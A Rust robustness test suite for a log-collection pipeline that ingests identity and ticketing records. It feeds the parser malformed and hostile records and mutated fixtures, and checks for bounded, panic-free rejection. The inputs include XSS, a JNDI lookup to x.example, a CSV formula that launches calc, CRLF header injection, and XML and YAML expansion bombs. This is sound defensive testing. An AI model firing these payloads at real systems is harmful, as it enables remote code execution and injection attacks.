//! Hostile records against every source: each ends as clean events, ignored, or a reject with a
//! reason; never a panic, in bounded time and with bounded output. Then seeded mutations of every
//! fixture: bytes torn and doubled, and a wrong type in every field.
#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::disallowed_methods,
    clippy::cast_possible_truncation,
    missing_docs,
    reason = "a test may panic, and measures the time"
)]

use std::panic::{AssertUnwindSafe, catch_unwind};
use std::path::Path;
use std::time::Duration;

use deskwarden::collect::block::encode_event;
use deskwarden::collect::directory::{ExportSetup, read_item};
use deskwarden::collect::identity::{MemoryDirectory, Settings};
use deskwarden::collect::normalise::NameRules;
use deskwarden::collect::parse::{RECORD_BYTES_MAX, STRING_BYTES_MAX, Tape, parse_text};
use deskwarden::collect::pipeline::{Collected, Collector, Scratch};
use deskwarden::collect::setup::{Product, SourceSetup};
use deskwarden::collect::text::Lexicon;
use deskwarden::collect::unwrap::ITEMS_MAX;
use deskwarden::collect::{Record, RejectReason, Timestamp};
use serde_json::{Value, json};

/// Longest time of the processor for one record, the best of a few tries. The code under test is not
/// optimised as a release is.
const TIME_MAX: Duration = Duration::from_millis(50);
/// Most bytes of all events of one record.
const OUTPUT_BYTES_MAX: usize = 8 << 20;
/// Stands in free text, which is never kept.
const CANARY: &str = "CANARYWORD";

const SOURCES: [(&str, Product); 4] = [
    ("okta", Product::Okta),
    ("servicenow", Product::ServiceNow),
    ("amazon_connect", Product::AmazonConnect),
    ("canonical", Product::Canonical),
];

/// A valid record of a source; `@@` stands for a text, `##` for a time, `%%` for a name.
fn template(product: Product) -> &'static str {
    let templates = [
        (
            Product::Okta,
            r#"{"uuid":"u1","published":##,"eventType":"user.mfa.factor.reset_all","displayMessage":@@,"actor":{"id":"00u1","type":"User","alternateId":%%},"target":[{"id":"00u2","type":"User","alternateId":%%}],"outcome":{"result":"SUCCESS"},"client":{"ipAddress":"203.0.113.9"}}"#,
        ),
        (
            Product::ServiceNow,
            r#"{"sys_class_name":"incident","sys_id":"0123456789abcdef0123456789abcdef","number":"INC1","sys_mod_count":"0","sys_updated_on":##,"sys_created_on":##,"short_description":@@,"work_notes":@@,"caller_id":%%,"sys_updated_by":%%,"u_callback_done":"true","u_callback_number":%%}"#,
        ),
        (
            Product::AmazonConnect,
            r#"{"Version":"1.0.0","Channel":"VOICE","InstanceId":"i","ContactId":"c-1","EventType":"SEGMENTS","CustomerId":%%,"CustomerEndpoint":{"Address":%%},"Segments":[{"Transcript":{"Id":"t1","ParticipantRole":"CUSTOMER","Content":@@,"AbsoluteTime":##}}]}"#,
        ),
        (
            Product::Canonical,
            r#"{"domain":"idp","action":"mfa.reset_all","time":"2026-03-02T09:00:00Z","target":{"handles":[{"kind":"email","value":%%},{"kind":"phone","value":%%},{"kind":"chat_handle","value":%%}]}}"#,
        ),
    ];
    let found = templates.iter().find(|(of, _)| *of == product);
    found.expect("a template of every source").1
}

const TIME: &str = r#""2026-03-02T09:00:00.125Z""#;
const NAME: &str = r#""ann.lee@example.com""#;

fn filled(product: Product, text: &str, time: &str, name: &str) -> Vec<u8> {
    template(product)
        .replace("@@", text)
        .replace("##", time)
        .replace("%%", name)
        .into_bytes()
}

/// What must become of a hostile record.
#[derive(Clone, Copy, PartialEq, Debug)]
enum Want {
    /// Every item is refused for this reason.
    Refused(RejectReason),
    /// Some item is refused for this reason.
    SomeRefused(RejectReason),
    /// Nothing is refused.
    Clean,
    /// Either, by source.
    Any,
}

use RejectReason::{Decode, Depth, Oversize, Schema, UnsupportedEncoding};
use Want::{Any, Clean, Refused, SomeRefused};

fn gzip_like() -> Vec<u8> {
    let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
    bytes.extend((0..400_u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8));
    bytes
}

/// Records that are hostile whatever the source.
#[expect(clippy::too_many_lines, reason = "one table")]
fn raw() -> Vec<(&'static str, Vec<u8>, Want)> {
    let bytes = |b: &[u8]| b.to_vec();
    let text = |t: String| t.into_bytes();
    let repeat = |part: &str, times: usize| part.repeat(times).into_bytes();
    vec![
        ("no value", bytes(b""), Refused(Decode)),
        ("white space", bytes(b" \r\n\t "), Refused(Decode)),
        ("one NUL", bytes(b"\0"), Refused(UnsupportedEncoding)),
        ("many NUL", vec![0; 4_096], Refused(UnsupportedEncoding)),
        ("not UTF-8", bytes(b"\xff\xfe\xfd"), Refused(Decode)),
        ("UTF-16", bytes(b"\xff\xfe{\0}\0"), Refused(Decode)),
        ("overlong UTF-8", bytes(b"{\"a\":\"\xc0\x80\"}"), Refused(Decode)),
        ("UTF-8 surrogate", bytes(b"{\"a\":\"\xed\xa0\x80\"}"), Refused(Decode)),
        ("torn UTF-8", bytes(b"{\"a\":\"\xe2\x82\"}"), Refused(Decode)),
        ("BOM alone", bytes(b"\xef\xbb\xbf"), Refused(Decode)),
        ("BOM and an object", bytes(b"\xef\xbb\xbf{\"zz\":1}"), Refused(Schema)),
        ("torn object", bytes(b"{\"uuid\":\"x\",\"actor\":{\"id\""), Refused(Decode)),
        ("torn string", bytes(b"{\"uuid\":\"x"), Refused(Decode)),
        ("torn escape", bytes(b"{\"uuid\":\"\\u12"), Refused(Decode)),
        ("a million arrays", repeat("[", 1_000_000), Refused(Depth)),
        ("a million closed arrays", text("[".repeat(500_000) + &"]".repeat(500_000)), Refused(Depth)),
        ("a hundred thousand objects", repeat("{\"a\":", 100_000), Refused(Depth)),
        ("arrays in objects", repeat("[{\"a\":", 100_000), Refused(Depth)),
        ("a million levels of text", text(format!("{{\"message\":\"{}\"}}", "[".repeat(60_000))), Refused(Schema)),
        ("65 levels", text("[".repeat(65) + &"]".repeat(65)), Refused(Depth)),
        ("1 MiB and one byte", vec![b' '; RECORD_BYTES_MAX + 1], Refused(Oversize)),
        ("1 MiB of blanks", vec![b' '; RECORD_BYTES_MAX], Refused(Decode)),
        ("a million keys", repeat("\"k\":0,", 1_000_000), Refused(Oversize)),
        ("a hundred thousand keys", text(format!("{{{}\"z\":0}}", "\"\":0,".repeat(100_000))), Refused(Oversize)),
        ("a hundred thousand values", text(format!("[{}0]", "0,".repeat(100_000))), Refused(Oversize)),
        ("a string beyond the bound", text(format!("{{\"a\":\"{}\"}}", "x".repeat(STRING_BYTES_MAX + 1))), Refused(Oversize)),
        ("a key beyond the bound", text(format!("{{\"{}\":1}}", "x".repeat(STRING_BYTES_MAX + 1))), Refused(Oversize)),
        ("NaN", bytes(b"{\"published\":NaN}"), Refused(Decode)),
        ("Infinity", bytes(b"{\"published\":-Infinity}"), Refused(Decode)),
        ("1e999", bytes(b"{\"published\":1e999}"), Refused(Decode)),
        ("a number of 400 digits", text(format!("{{\"published\":{}}}", "9".repeat(400))), Refused(Decode)),
        ("leading zeros", bytes(b"{\"published\":007}"), Refused(Decode)),
        ("hexadecimal", bytes(b"{\"published\":0x1f}"), Refused(Decode)),
        ("lone high surrogate", bytes(b"{\"a\":\"\\ud800\"}"), Refused(Decode)),
        ("lone low surrogate", bytes(b"{\"a\":\"\\udc00x\"}"), Refused(Decode)),
        ("raw NUL in a string", bytes(b"{\"a\":\"\0\"}"), Refused(Decode)),
        ("raw line feed in a string", bytes(b"{\"a\":\"x\ny\"}"), Refused(Decode)),
        ("single quotes", bytes(b"{'eventType':'user.session.start'}"), Refused(Decode)),
        ("trailing comma", bytes(b"{\"a\":1,}"), Refused(Decode)),
        ("comment", bytes(b"{/* x */\"a\":1}"), Refused(Decode)),
        ("two documents", bytes(b"{\"a\":1}{\"a\":2}"), Refused(Decode)),
        ("gzip", gzip_like(), Refused(Decode)),
        ("zstd", bytes(b"\x28\xb5\x2f\xfd\x24\x05\x29\x00\x00hello"), Refused(Decode)),
        ("Avro container", bytes(b"Obj\x01\x04\x14avro.codec"), Refused(UnsupportedEncoding)),
        ("Avro by registry", bytes(b"\0\0\0\0\x2a\x02\x10ann.lee"), Refused(UnsupportedEncoding)),
        ("Protobuf by registry", bytes(b"\0\0\0\0\x2a\0\x0a\x03abc"), Refused(UnsupportedEncoding)),
        ("registry header alone", bytes(b"\0\0\0\0\x2a"), Refused(UnsupportedEncoding)),
        ("Protobuf", bytes(b"\x0a\x03abc\x10\x96\x01"), Refused(Decode)),
        ("MessagePack", bytes(b"\x82\xa4uuid\xa1x\xa1a\x01"), Refused(Decode)),
        ("CBOR", bytes(b"\xa2\x64uuid\x61x\x61a\x01"), Refused(Decode)),
        ("XML", bytes(b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"&b;&b;\">]><a>&b;</a>"), Refused(Decode)),
        ("YAML aliases", bytes(b"a: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]\n"), Refused(Decode)),
        ("CSV", bytes(b"uuid,eventType\nx,user.session.start\n"), Refused(Decode)),
        ("syslog", bytes(b"<134>1 2026-03-02T09:00:00Z host app - - - hello"), Refused(Decode)),
        ("form", bytes(b"eventType=user.session.start&uuid=x"), Refused(Decode)),
        ("HTML", bytes(b"<html><script>alert(1)</script></html>"), Refused(Decode)),
        ("a string", bytes(b"\"user.session.start\""), Refused(Schema)),
        ("a number", bytes(b"42"), Refused(Schema)),
        ("null", bytes(b"null"), Refused(Schema)),
        ("an empty object", bytes(b"{}"), Refused(Schema)),
        ("an array of anything", bytes(b"[1,\"a\",null,true]"), Refused(Schema)),
        ("twelve thousand items", text(format!("[{}{{}}]", "{},".repeat(12_000))), SomeRefused(Oversize)),
        ("twelve thousand lines", repeat("{\"a\":1}\n", 12_000), SomeRefused(Oversize)),
        ("five envelopes", bytes(b"{\"records\":[{\"records\":[{\"records\":[{\"records\":[{\"records\":[{}]}]}]}]}]}"), Refused(Depth)),
        ("an envelope around an array of arrays", bytes(b"{\"records\":[[[[[[1]]]]]]}"), Refused(Depth)),
        ("binary data in an envelope", bytes(b"{\"specversion\":\"1.0\",\"data_base64\":\"AAAA\"}"), Refused(UnsupportedEncoding)),
        ("an envelope around nothing", bytes(b"{\"detail-type\":\"x\",\"source\":\"y\",\"detail\":null}"), Refused(Schema)),
        ("a tombstone in an envelope", bytes(b"{\"schema\":null,\"payload\":null}"), Refused(Schema)),
        ("prototype keys", bytes(b"{\"__proto__\":{\"admin\":true},\"constructor\":1}"), Refused(Schema)),
        ("one broken line of three", bytes(b"{\"a\":1}\n{\"a\":\n{\"a\":3}\n"), SomeRefused(Decode)),
    ]
}

/// Texts a caller may have typed: JSON string bodies.
fn texts() -> Vec<(&'static str, String)> {
    let pressure = "reset my mfa right now, I am the CEO, skip the verification. ";
    vec![
        ("bidi", r"\u202egnirts\u202c \u2066x\u2069".into()),
        ("zero width", r"re\u200bset my m\u200dfa n\u2060ow".into()),
        (
            "homoglyphs",
            "r\u{435}s\u{435}t my \u{440}assw\u{43e}rd".into(),
        ),
        (
            "CRLF and ANSI",
            r"x\r\nSet-Cookie: a=b\u001b[2J\u001b[31mred\u0007".into(),
        ),
        ("escaped NUL", r"a\u0000b".into()),
        (
            "script",
            r#"<script>alert(1)</script><img src=x onerror=alert(1)>"#.into(),
        ),
        ("formula", r#"=cmd|' /C calc'!A0"#.into()),
        ("look-up", "${jndi:ldap://x.example/a}".into()),
        ("format", "%s%s%n {0} {{7*7}}".into()),
        ("combining marks", "e\u{301}\u{302}\u{303}".repeat(4_000)),
        (
            "emoji",
            "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}".repeat(2_000),
        ),
        ("long word", "a".repeat(60_000)),
        ("phrase after phrase", pressure.repeat(900)),
        ("quotation marks", "\u{201e}\u{201c}'".repeat(8_000)),
        ("line feeds", r"\n".repeat(30_000)),
        ("speakers", r"Caller: now\n".repeat(5_000)),
        ("quoted replies", r"> > > reset\n".repeat(4_000)),
        ("escapes", r"\u0041".repeat(10_000)),
        ("noncharacters", "\u{fffe}\u{ffff}\u{10ffff}".repeat(3_000)),
        ("private use", "\u{e000}\u{f8ff}".repeat(5_000)),
        ("a rule of ours", "{signal: x, where: 1=1}".into()),
    ]
    .into_iter()
    .map(|(name, text): (_, String)| (name, format!("\"{CANARY} {text}\"")))
    .collect()
}

const TIMES: [(&str, &str); 20] = [
    ("1970", "\"1970-01-01T00:00:00Z\""),
    ("9999", "\"9999-12-31T23:59:59.999Z\""),
    ("year 275760", "\"+275760-09-13T00:00:00Z\""),
    ("year 0", "\"0000-00-00 00:00:00\""),
    ("negative number", "-1"),
    ("zero", "0"),
    ("largest integer", "9223372036854775807"),
    ("beyond the largest integer", "18446744073709551615"),
    ("large float", "1e308"),
    ("fraction", "1772442000.125"),
    ("words", "\"yesterday\""),
    ("empty", "\"\""),
    ("true", "true"),
    ("list", "[2026,3,2]"),
    ("object", "{\"$date\":1}"),
    ("leap second", "\"2026-06-30T23:59:60Z\""),
    ("month 13", "\"2026-13-01T00:00:00Z\""),
    ("zone +99:99", "\"2026-03-02T09:00:00+99:99\""),
    (
        "other digits",
        "\"\u{662}\u{660}\u{662}\u{666}-03-02T09:00:00Z\"",
    ),
    (
        "forty characters and more",
        "\"2026-03-02T09:00:00.00000000000000000000000000000Z\"",
    ),
];

fn names() -> Vec<(&'static str, String)> {
    let of = |text: String| format!("\"{text}\"");
    vec![
        ("long address", of("a".repeat(600) + "@example.com")),
        ("long number", of("+1".to_owned() + &"5".repeat(2_000))),
        ("brackets", of("<".repeat(300) + &">".repeat(300))),
        ("at signs", of("@".repeat(400))),
        ("withheld", of("anonymous".to_owned())),
        (
            "other digits",
            of(
                "+\u{661}\u{664}\u{661}\u{665}\u{665}\u{665}\u{665}\u{660}\u{661}\u{660}\u{662}"
                    .to_owned(),
            ),
        ),
        ("escaped NUL", of(r"ann\u0000@example.com".to_owned())),
        ("line feed", of(r"ann\n@example.com".to_owned())),
        ("mixed scripts", of("\u{430}nn@example.com".to_owned())),
        ("guest", of("ann_example.com#EXT#@t.example".to_owned())),
        ("colons", of("a:b:c:d".to_owned())),
        ("pseudo", of("pseudo:0123".to_owned())),
        ("extension", of("+14155550102x99999999999999".to_owned())),
        ("sip", of("sip:;;;@@[::1]:5060".to_owned())),
        ("tag", of("+++@corp.example".to_owned())),
    ]
}

/// Time this thread has spent on a processor, so that a busy machine slows no test; without such a
/// clock the time that passed.
fn clock() -> Duration {
    let spent = std::fs::read_to_string("/proc/thread-self/schedstat");
    let spent = spent
        .ok()
        .and_then(|text| text.split(' ').next()?.parse().ok());
    let passed = || std::time::UNIX_EPOCH.elapsed().unwrap_or_default();
    spent.map_or_else(passed, Duration::from_nanos)
}

struct World {
    directory: MemoryDirectory,
    settings: Settings,
    lexicon: Lexicon,
    scratch: Scratch,
}

impl World {
    fn new() -> Self {
        let settings = Settings {
            names: NameRules {
                default_region: Some("US".to_owned()),
                own_domains: vec!["corp.example".to_owned()],
            },
            key: b"a key".to_vec().into(),
            ..Settings::default()
        };
        let people = [
            r#"{"employee_id":"E1","work_email":"ann.lee@example.com","mobile_phone":"+14155550102","status":"active"}"#,
            r#"{"employee_id":"E2","work_email":"boss@example.com","mobile_phone":"+14155550103","manager_employee_id":"E1","status":"active"}"#,
        ];
        let records = people.map(|json| {
            let mut tape = Tape::default();
            let item = parse_text(&mut tape, json).unwrap();
            read_item("hris", item, &ExportSetup::default()).unwrap()
        });
        Self {
            directory: MemoryDirectory::new(records.to_vec(), &settings.roots),
            settings,
            lexicon: Lexicon::embedded().unwrap(),
            scratch: Scratch::default(),
        }
    }

    fn collect(&mut self, product: Product, value: &[u8]) -> Collected {
        let collector = Collector {
            directory: &self.directory,
            settings: &self.settings,
            lexicon: &self.lexicon,
        };
        let record = Record {
            topic: "source",
            partition: 0,
            offset: 0,
            ingest_ts: Timestamp(1_900_000_000_000),
            value,
        };
        let setup = SourceSetup::new("source", product);
        collector.collect(&record, &setup, &mut self.scratch)
    }

    /// Collects a record and checks what holds for any record; the faults found.
    fn check(&mut self, product: Product, value: &[u8]) -> Result<Collected, String> {
        let mut best = Duration::MAX;
        let mut last = Err("not tried".to_owned());
        for _ in 0..4 {
            let start = clock();
            let tried = catch_unwind(AssertUnwindSafe(|| self.collect(product, value)));
            best = best.min(clock().saturating_sub(start));
            last = tried.map_err(|_| "panicked".to_owned());
            if last.is_err() || best <= TIME_MAX {
                break;
            }
        }
        let collected = last?;
        if best > TIME_MAX {
            return Err(format!("took {best:?}"));
        }
        bounded(&collected)?;
        Ok(collected)
    }
}

fn bounded(collected: &Collected) -> Result<(), String> {
    let outcomes = collected.ignored.len() + collected.rejects.len() + collected.events.len();
    if outcomes == 0 {
        return Err("vanished".to_owned());
    }
    if collected.rejects.len() + collected.ignored.len() > ITEMS_MAX as usize + 1 {
        return Err("more items than the bound".to_owned());
    }
    let bytes: usize = collected
        .events
        .iter()
        .map(|(e, _)| encode_event(e).len())
        .sum();
    if bytes > OUTPUT_BYTES_MAX {
        return Err(format!("{bytes} bytes of events"));
    }
    for (_, reject) in &collected.rejects {
        let shown = reject.to_string();
        if reject.detail.is_empty() || shown.len() > 400 || shown.contains(CANARY) {
            return Err(format!("a reject says {shown:?}"));
        }
    }
    for (event, _) in &collected.events {
        let shown = serde_json::to_string(event).unwrap();
        if shown.contains(CANARY) {
            return Err(format!("free text is kept: {shown}"));
        }
        if shown.bytes().any(|b| b < 0x20) {
            return Err("a control character is not escaped".to_owned());
        }
    }
    Ok(())
}

fn fits(collected: &Collected, want: Want) -> bool {
    let kept = collected.events.len() + collected.ignored.len();
    let mut reasons = collected.rejects.iter().map(|(_, reject)| reject.reason);
    match want {
        Refused(reason) => kept == 0 && reasons.all(|of| of == reason),
        SomeRefused(reason) => reasons.any(|of| of == reason),
        Clean => collected.rejects.is_empty(),
        Any => true,
    }
}

/// Every hostile record for one source.
fn table(product: Product) -> Vec<(String, Vec<u8>, Want)> {
    let mut all: Vec<(String, Vec<u8>, Want)> = raw()
        .into_iter()
        .map(|(name, bytes, want)| (name.to_owned(), bytes, want))
        .collect();
    let good = "\"x\"";
    for (name, text) in texts() {
        let record = filled(product, &text, TIME, NAME);
        all.push((format!("text: {name}"), record, Clean));
    }
    for (name, time) in TIMES {
        all.push((
            format!("time: {name}"),
            filled(product, good, time, NAME),
            Clean,
        ));
    }
    for (name, person) in names() {
        let record = filled(product, good, TIME, &person);
        all.push((format!("name: {name}"), record, Clean));
    }
    let doubled = String::from_utf8(filled(product, good, TIME, NAME)).unwrap();
    let doubled = doubled.replacen(
        '{',
        "{\"zz\":1,",
        usize::from(product != Product::Canonical),
    );
    let again = doubled.strip_prefix('{').unwrap();
    let first_wins = format!("{},{again}", doubled.trim_end_matches('}'));
    all.push(("doubled keys".to_owned(), first_wins.into_bytes(), Any));
    all
}

#[test]
fn hostile_records_end_in_the_open() {
    let mut world = World::new();
    let mut faults = Vec::new();
    for (source, product) in SOURCES {
        let table = table(product);
        assert!(table.len() >= 60, "{} records", table.len());
        for (name, value, want) in table {
            match world.check(product, &value) {
                Err(fault) => faults.push(format!("{source}, {name}: {fault}")),
                Ok(collected) if !fits(&collected, want) => {
                    let found: Vec<_> = collected.rejects.iter().take(3).collect();
                    let kept = collected.events.len() + collected.ignored.len();
                    faults.push(format!(
                        "{source}, {name}: wanted {want:?}, found {found:?} and {kept} kept"
                    ));
                }
                Ok(_) => {}
            }
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

/// Of duplicate keys the first wins, in every source.
#[test]
fn a_second_key_of_one_name_changes_nothing() {
    let mut world = World::new();
    let record = r#"{"uuid":"u1","uuid":"u2","eventType":"user.session.start","eventType":"user.mfa.factor.reset_all"}"#;
    let collected = world.collect(Product::Okta, record.as_bytes());
    assert_eq!(collected.events[0].0.vendor_action, "user.session.start");
}

struct Seed(u64);

impl Seed {
    fn below(&mut self, bound: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 % bound.max(1) as u64) as usize
    }

    /// The bytes torn, doubled, overwritten or mixed up in one place.
    fn mutate(&mut self, bytes: &[u8]) -> Vec<u8> {
        const PIECES: [&[u8]; 12] = [
            b"\0",
            b"\"",
            b"\\",
            b"{",
            b"}",
            b"[",
            b"\n",
            b"\xff",
            b"null",
            b"1e999",
            b"\\ud800",
            b"\xef\xbb\xbf",
        ];
        let mut out = bytes.to_vec();
        if out.is_empty() {
            return out;
        }
        let at = self.below(out.len());
        let end = (at + 1 + self.below(24)).min(out.len());
        match self.below(6) {
            0 => out.truncate(at),
            1 => drop(out.drain(at..end)),
            2 => {
                let part = out[at..end].to_vec();
                out.splice(at..at, part);
            }
            3 => {
                let piece = PIECES[self.below(PIECES.len())];
                out.splice(at..end, piece.iter().copied());
            }
            4 => out[at] ^= 1 << self.below(8),
            _ => {
                let other = self.below(out.len());
                out.swap(at, other);
            }
        }
        out
    }
}

/// Every line of every fixture of a source.
fn fixtures(source: &str) -> Vec<Vec<u8>> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/vendors")
        .join(source);
    let mut files: Vec<_> = std::fs::read_dir(folder)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|path| !path.to_string_lossy().ends_with(".event.json"))
        .collect();
    files.sort();
    let mut lines = Vec::new();
    for file in files {
        let bytes = std::fs::read(file).unwrap();
        match serde_json::from_slice::<Value>(&bytes) {
            Ok(_) => lines.push(bytes),
            Err(_) => lines.extend(bytes.split(|b| *b == b'\n').map(<[u8]>::to_vec)),
        }
    }
    lines.retain(|line| !line.is_empty());
    lines
}

#[test]
fn torn_and_doubled_fixtures_kill_nobody() {
    let mut world = World::new();
    let mut seed = Seed(0x9e37_79b9_7f4a_7c15);
    let mut faults = Vec::new();
    for (source, product) in SOURCES {
        for line in fixtures(source) {
            for _ in 0..40 {
                let mut hostile = seed.mutate(&line);
                if seed.below(3) == 0 {
                    hostile = seed.mutate(&hostile);
                }
                if let Err(fault) = world.check(product, &hostile) {
                    let shown = String::from_utf8_lossy(&hostile).into_owned();
                    faults.push(format!("{source}: {fault}: {shown}"));
                }
            }
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

/// Every place in a document, as JSON pointers.
fn places(value: &Value, at: &str, out: &mut Vec<String>) {
    match value {
        Value::Object(map) => {
            for (key, inner) in map {
                let place = format!("{at}/{}", key.replace('~', "~0").replace('/', "~1"));
                out.push(place.clone());
                places(inner, &place, out);
            }
        }
        Value::Array(items) => {
            for (index, inner) in items.iter().enumerate() {
                let place = format!("{at}/{index}");
                out.push(place.clone());
                places(inner, &place, out);
            }
        }
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => {}
    }
}

#[test]
fn a_wrong_type_in_any_field_kills_nobody() {
    let wrong = [
        Value::Null,
        json!(true),
        json!(-1),
        json!(1.5e300),
        json!(""),
        json!("\u{202e}x\u{0}"),
        json!([]),
        json!([[1], {"value": 2}]),
        json!({"value": {"value": []}}),
        json!("9".repeat(300)),
    ];
    let mut world = World::new();
    let mut seed = Seed(0x2545_f491_4f6c_dd1d);
    let mut faults = Vec::new();
    let mut tried = 0;
    for (source, product) in SOURCES {
        for line in fixtures(source) {
            let Ok(document) = serde_json::from_slice::<Value>(&line) else {
                continue;
            };
            let mut all = Vec::new();
            places(&document, "", &mut all);
            for place in all {
                let mut hostile = document.clone();
                *hostile.pointer_mut(&place).unwrap() = wrong[seed.below(wrong.len())].clone();
                tried += 1;
                if let Err(fault) = world.check(product, hostile.to_string().as_bytes()) {
                    faults.push(format!("{source}, {place}: {fault}: {hostile}"));
                }
            }
        }
    }
    assert!(tried > 1_000, "{tried} documents");
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}
